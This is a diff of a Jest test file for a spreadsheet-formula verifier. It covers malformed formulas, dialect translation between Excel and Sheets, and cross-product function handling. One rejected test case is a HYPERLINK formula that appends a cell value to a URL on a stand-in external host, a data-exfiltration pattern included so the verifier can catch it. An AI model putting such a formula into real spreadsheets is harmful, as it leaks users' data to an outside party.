@@ -2,16 +2,16 @@
 import { afterAll, beforeAll, expect, test } from "@jest/globals";
 import type { Request } from "../src/stated.ts";
 import { verifying } from "../src/verify.ts";
-import { type Runner, runner } from "../src/workers/runner.ts";
+import { type Threads, verifiers } from "../src/workers/threads.ts";
 
-let threads: Runner;
+let threads: Threads;
 beforeAll(() => {
-  threads = runner(1);
+  threads = verifiers(1);
 });
 afterAll(() => threads.close());
 
 const verify = async (formula: string, request: Request) =>
-  (await verifying(threads).block(formula, request, Promise.resolve(formula))).found;
+  (await verifying(threads).block(formula, request, { again: async () => formula })).found;
 
 const orders = [
   "Order\tRegion\tStatus\tAmount\tShare",
@@ -59,7 +59,7 @@ test("dates, percentages and money are known as such in the cells, the steps and
 });
 
 const wrong: [string, string, Request?][] = [
-  ["a parenthesis is missing", '=SUMIFS(D2:D6,B2:B6,"North",C2:C6,"Paid"'],
+  ["an operand is missing", "=SUM(D2:D6)*/2"],
   ["a function is invented", '=SUMWHEN(D2:D6,B2:B6,"North",C2:C6,"Paid")'],
   ["it is in prose", "Add the paid amounts of the North."],
   ["a criterion is left out", '=SUMIFS(D2:D6,B2:B6,"North")'],
@@ -72,7 +72,6 @@ const wrong: [string, string, Request?][] = [
   ["the result is written down", "=180"],
   ["conditions are added", '=SUMIF(B2:B6,"North",D2:D6)+SUMIF(C2:C6,"Paid",D2:D6)'],
   ["it brings an address", `=HYPERLINK("https://x.example/?q="&D2,"${"North Paid"}")`],
-  ["it is in another language", '=SOMME.SI.ENS(D2:D6;B2:B6;"North";C2:C6;"Paid")'],
   [
     "the range holds its own cell",
     "=SUM(D2:D7)",
@@ -149,12 +148,14 @@ test("a formula is shown as the person writes: German names, semicolons, decimal
   expect((await verify("=IF(A1>1;A1*2;0)", request)).formula).toBe("=WENN(A1>1;A1*2;0)");
 });
 
-test("a function that the person's product does not have fails, and the other product's ways of writing are carried over", async () => {
+test("what only the other product has is carried over where it can be said exactly, and fails where it cannot", async () => {
   const sheets: Request = { dialect: "sheets", question: "Split" };
 
-  expect((await verify('=TEXTBEFORE(A2,"-")', sheets)).verdict).toBe("failed");
+  const before = await verify('=TEXTBEFORE(A2,"-")', sheets);
+  expect([before.verdict, before.formula.includes("TEXTBEFORE")]).toEqual(["checked", false]);
   expect((await verify('=CUBEVALUE("x","y")', sheets)).verdict).toBe("failed");
-  expect((await verify("=ARRAYFORMULA(A2:A9*2)", { dialect: "excel", question: "" })).verdict).toBe("failed");
+  const spilled = await verify("=ARRAYFORMULA(A2:A9*2)", { dialect: "excel", question: "" });
+  expect([spilled.verdict, spilled.formula]).toEqual(["checked", "=A2:A9*2"]);
 });
 
 test("examples decide: a formula counts only if it reproduces them, and the row that differs is told", async () => {
